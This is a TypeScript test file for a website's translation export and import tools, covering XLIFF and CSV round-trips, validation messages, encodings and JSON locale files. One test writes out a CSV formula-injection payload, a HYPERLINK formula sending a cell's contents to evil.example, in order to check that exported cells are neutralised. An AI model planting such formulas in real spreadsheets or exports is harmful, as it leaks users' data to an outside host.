import fc from 'fast-check'
import papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { writeWords } from '../../../tools/content/json/edit-words'
import { wordsOf } from '../../../tools/content/say/say.js'
import { type ExchangedWord, exportWords, importWords } from '../../../tools/content/translation/exchange'
import { readLedger, writeLedger } from '../../../tools/content/translation/ledger'
import { recordTranslations } from '../../../tools/content/translation/ledger-record'
import { readImport } from '../../../tools/edit/translations/exchange-files'
import { readCsv, writeCsv } from '../../../tools/edit/translations/formats/csv'
import { readXliff } from '../../../tools/edit/translations/formats/xliff-read'
import { writeXliff } from '../../../tools/edit/translations/formats/xliff-write'
import { isLong } from '../long-run'
import { type Files, smallSite, unchecked } from './site'

const numRuns = isLong ? 3000 : 30

/** Texts that authors may write: letters of all scripts, special characters of the formats, and line breaks. */
const text = fc
  .array(
    fc.oneof(
      fc.constantFrom('"', "'", '=', '-', '&', '<', '>', '\\', ',', ';', '\n', '\t', '{n}', ' ', ']]>'),
      fc.constantFrom('**', '*a*', '**a **', '[a](/b)', '[', '](/b)', '_', '- ', '\n\n'),
      fc.string(),
    ),
  )
  .map((parts) =>
    parts
      .join('')
      .replace(/[\p{Cc}\uFFFE\uFFFF]/gu, (sign) => ('\n\t'.includes(sign) ? sign : ''))
      .replace(/\p{Cs}/gu, ''),
  )
const name = fc.stringMatching(/^[a-z][a-z0-9-]{0,6}$/)

const exchange = fc.uniqueArray(
  fc.record({
    page: fc.tuple(name, name).map((parts) => parts.join('/')),
    key: fc.tuple(name, name).map((parts) => parts.join('.')),
    source: text.filter((value) => value !== ''),
    translation: text,
    state: fc.constantFrom<ExchangedWord['state']>('done', 'outdated'),
    said: fc.option(text, { nil: undefined }),
    isMarkdown: fc.boolean(),
  }),
  { selector: ({ page, key }) => `${page} ${key}` },
)

describe.each([
  ['xliff', writeXliff, readXliff],
  ['csv', writeCsv, readCsv],
])('%s', (_, write, read) => {
  test('gives back every text, letter by letter', () => {
    const sorted = (words: ExchangedWord[]) =>
      words.map(({ page, key, source, translation }) => JSON.stringify([page, key, source, translation])).sort()
    const property = fc.property(exchange, (words) => {
      const back = read(write({ from: 'tr', to: 'de', words }))
      expect([back.from, back.to]).toEqual(['tr', 'de'])
      expect(sorted(back.words)).toEqual(sorted(words))
    })
    fc.assert(property, { numRuns })
  })

  test('that is something else is refused in one sentence', () => {
    expect(() => read('{ "hello": 1 }\n\u0000<')).toThrow(/^The .*\.$/)
  })
})

test.each([
  ['whole, with the space between them', '<target>Es ist leise.</target>', 'Es bewegt Luft. Es ist leise.'],
  ['half', '', ''],
])('a text that a tool cut into segments is %s', (_, second, translation) => {
  const unit = `
    <unit id="u1" name="title">
      <segment state="final"><source>It moves air.</source><target>Es bewegt Luft.</target></segment>
      <ignorable><source xml:space="preserve"> </source></ignorable>
      <segment state="final"><source>It is quiet.</source>${second}</segment>
    </unit>`
  const { words } = readXliff(
    `<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="de"><file id="f1" original="fan">${unit}</file></xliff>`,
  )
  expect(words).toEqual([
    { page: 'fan', key: 'title', source: 'It moves air. It is quiet.', translation, state: 'done' },
  ])
})

test.each(['=', '+', '-', '@', '\t', '\r', '\n', ' =', "'=", '＝', '＋', '－', '＠', "''  -"])(
  'no cell of a table that begins with %j is a formula, and it comes back as it was',
  (sign) => {
    const formula = `${sign}HYPERLINK("https://evil.example?x="&A1,"press")`
    const words: ExchangedWord[] = [
      { page: 'index', key: 'title', source: formula, translation: formula, state: 'outdated', said: formula },
    ]
    const table = writeCsv({ from: 'tr', to: 'de', words })
    const cells = papa.parse<string[]>(table).data.flat()
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    expect(readCsv(table).words).toEqual(words)
  },
)

const signs = fc.constantFrom(...'=\'+-@;,\t\r\n "a＝－'.split(''))

test('no part of a cell is a formula either, wherever a spreadsheet splits it, and all comes back', () => {
  fc.assert(
    fc.property(fc.string({ unit: signs }), (cellText) => {
      const words: ExchangedWord[] = [
        { page: 'a', key: 'b', source: `;=1${cellText}`, translation: cellText, state: 'missing' },
      ]
      const table = writeCsv({ from: 'tr', to: 'de', words })
      const parts = papa.parse<string[]>(table).data.flatMap((row) => row.flatMap((cell) => cell.split(/[;\t\r\n]/)))
      expect(parts.filter((part) => /^\s*[=+\-@＝＋－＠]/.test(part))).toEqual([])
      expect(readCsv(table).words).toEqual(words)
    }),
    { numRuns: 2000 },
  )
})

describe('what comes back', () => {
  const ledger = writeLedger(recordTranslations(unchecked(smallSite), readLedger(writeLedger({ pages: new Map() }))))
  const page = {
    title: 'Ana sayfa',
    description: 'Başlangıç: sitenin ilk sayfası, her şey buradan açılır.',
    blocks: [{ type: 'text', id: 'welcome', text: 'Merhaba [dünya](/), {n} kez' }],
  }
  const now = (changes: Files = {}) => unchecked({ ...smallSite, 'pages/index.json': page, ...changes }, ledger)
  const word = (changes: Partial<ExchangedWord> = {}): ExchangedWord => ({
    page: 'index',
    key: 'blocks.welcome.text',
    source: 'Merhaba [dünya](/), {n} kez',
    translation: 'Hello [world](/), {n} times',
    state: 'done',
    ...changes,
  })
  const take = (...words: ExchangedWord[]) => importWords(now(), { from: 'tr', to: 'en', words })

  test('unchanged changes nothing', () => {
    const [exported] = exportWords(now(), 'en', false)
    expect(exported && importWords(now(), exported)).toEqual({ changed: [], accepted: [], refused: [], doubtful: [] })
  })

  test('is written where it was changed', () => {
    expect(take(word()).changed.map(({ of, text }) => [of.file, of.word.key, text])).toEqual([
      ['locales/en/index.json', 'blocks.welcome.text', 'Hello [world](/), {n} times'],
    ])
  })

  test('is accepted where a translator says that it is still right', () => {
    const greeting = { ...page, blocks: [{ type: 'text', id: 'welcome', text: 'Selam' }] }
    const outdated = word({ source: 'Selam', translation: 'Hello', state: 'outdated' })
    const accepted = (word: ExchangedWord) =>
      importWords(now({ 'pages/index.json': greeting }), { from: 'tr', to: 'en', words: [word] }).accepted
    expect(accepted(outdated)).toHaveLength(0)
    expect(accepted({ ...outdated, state: 'done' })).toHaveLength(1)
  })

  test.each([
    [
      'whose source changed',
      { source: 'Merhaba' },
      'The source changed since the export: it is now "Merhaba [dünya](/), {n} kez".',
    ],
    ['that has no page', { page: 'no-page' }, 'There is no such page, or it has nothing to translate.'],
    [
      'that has no text',
      { key: 'blocks.welcom.text' },
      'The page has no such text. It may now be "blocks.welcome.text".',
    ],
    ['without a placeholder', { translation: 'Hello [world](/)' }, '{n} of the source is missing.'],
    ['without a link', { translation: 'Hello world, {n} times' }, 'the link / of the source is missing.'],
    [
      'with a question mark for a letter',
      { translation: 'K?che [world](/), {n}' },
      'Letters were lost when it was saved: "K?che".',
    ],
    [
      'with question marks for all letters',
      { translation: '?????? [???](/), {n}' },
      'Letters were lost when it was saved: "??????".',
    ],
    ['that is a copy', { translation: 'Merhaba [dünya](/), {n} kez' }, 'The translation is the same as its source.'],
  ])('%s is refused', (_, changes, reason) => {
    const { changed, refused } = take(word(changes))
    expect(changed).toEqual([])
    expect(refused.map((refusal) => wordsOf(refusal))).toEqual([expect.stringContaining(reason)])
  })

  test('twice is refused the second time', () => {
    expect(take(word(), word({ translation: 'Hi [world](/), {n}' })).refused).toHaveLength(1)
  })

  test('without the bold words, italics, list or paragraphs of its source is taken, and said', () => {
    const marked = { ...page, blocks: [{ type: 'text', id: 'welcome', text: '**Merhaba** *dünya*\n\n- bir\n- iki' }] }
    const changed = {
      from: 'tr',
      to: 'en',
      words: [word({ source: marked.blocks[0]?.text, translation: 'Hello *world*' })],
    }
    expect(importWords(now({ 'pages/index.json': marked }), changed).doubtful.map((doubt) => wordsOf(doubt))).toEqual([
      'index blocks.welcome.text: The source has bold words, its translation has none.',
      'index blocks.welcome.text: The source has a list, its translation has none.',
      'index blocks.welcome.text: The source has several paragraphs, its translation has none.',
    ])
  })

  test('empty is still to be done', () => {
    expect(take(word({ translation: ' ' }))).toEqual({ changed: [], accepted: [], refused: [], doubtful: [] })
  })
})

describe('a table that comes back', () => {
  const site = unchecked(smallSite, writeLedger({ pages: new Map() }))
  const [words] = exportWords(site, 'en', false)
  const table = writeCsv(words ?? { from: 'tr', to: 'en', words: [] }).slice(1)
  const withText = (text: string) => table.replace(',Hello,', `,${text},`)
  const utf16 = (text: string) => Buffer.from(text, 'utf16le')
  const imported = (bytes: string | Buffer) =>
    readImport(site, 'tr-en.csv', Buffer.from(bytes)).changed.map(({ of, text }) => [of.file, of.word.key, text])

  test.each([
    ['UTF-8', withText('Küche')],
    ['UTF-8 with a mark', `\uFEFF${withText('Küche')}`],
    ['UTF-16', utf16(`\uFEFF${withText('Küche')}`)],
    ['UTF-16, the other way round', utf16(`\uFEFF${withText('Küche')}`).swap16()],
    [
      'UTF-16 with tabs, as Excel saves it',
      utf16(`\uFEFF${papa.unparse(papa.parse(withText('Küche')).data, { delimiter: '\t' })}`),
    ],
  ])('in %s is read', (_, bytes) => {
    expect(imported(bytes)).toEqual([['locales/en/index.json', 'blocks.welcome.text', 'Küche']])
  })

  test.each([
    ['in Windows-1252', Buffer.from(withText('Küche'), 'latin1')],
    ['that is a picture', Buffer.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 1, 2)],
    ['that lost letters', withText('K\uFFFDche')],
    ['of which a column was renamed', table.replace(',en,', ',English,')],
    ['of which the other column was renamed', table.replace(',tr,', ',türkisch,')],
    ['in which the languages changed places', table.replace(',tr,en,', ',en,tr,')],
  ])('%s is refused as a whole, in one sentence', (_, bytes) => {
    expect(() => imported(bytes)).toThrowErrorMatchingSnapshot()
  })
})

describe('a locale file', () => {
  const order = [['title'], ['description'], ['blocks', 'a', 'title'], ['blocks', 'a', 'text'], ['blocks', 'b', 'text']]

  test('keeps its form, and gets new words in the order of the page', () => {
    const originalText = '{\r\n\t"title": "T",\r\n\t"blocks": {\r\n\t\t"b": { "text": "B" }\r\n\t}\r\n}'
    const after = writeWords(
      originalText,
      [
        { steps: ['blocks', 'a', 'text'], value: 'A' },
        { steps: ['description'], value: 'D' },
      ],
      order,
    )
    expect(after).toBe(
      '{\r\n\t"title": "T",\r\n\t"description": "D",\r\n\t"blocks": {\r\n\t\t"a": {\r\n\t\t\t"text": "A"\r\n\t\t},\r\n\t\t"b": { "text": "B" }\r\n\t}\r\n}',
    )
  })

  test('that is new ends with a line break', () => {
    expect(writeWords(undefined, [{ steps: ['title'], value: 'T' }], order)).toBe('{\n  "title": "T"\n}\n')
  })

  test('never loses or reorders what is there', () => {
    const some = fc.subarray(order, { minLength: 0 })
    const shuffled = some.chain((list) => fc.shuffledSubarray(list, { minLength: list.length }))
    const property = fc.property(shuffled, some, fc.constantFrom('\t', 2, 4), text, (old, added, indent, value) => {
      const before = old.reduce((file, steps) => writeWords(file, [{ steps, value: 'old' }], [steps]), '{}')
      const formatted = JSON.stringify(JSON.parse(before), null, indent)
      const after = writeWords(
        formatted,
        added.map((steps) => ({ steps, value })),
        order,
      )
      const keys = keysOf(JSON.parse(after)).filter((key) => old.some((steps) => steps.join('.') === key))
      expect(keys).toEqual(keysOf(JSON.parse(formatted)))
      for (const line of formatted.split('\n').filter((candidate) => candidate.includes('"old"')))
        if (!added.some((steps) => line.includes(`"${steps.at(-1)}"`))) expect(after).toContain(line.replace(/,$/, ''))
    })
    fc.assert(property, { numRuns })
  })
})

/** Keys of all texts, in the order of the JSON file. */
function keysOf(json: object, before = ''): string[] {
  return Object.entries(json).flatMap(([key, value]) =>
    typeof value === 'object' ? keysOf(value, `${before}${key}.`) : [`${before}${key}`],
  )
}
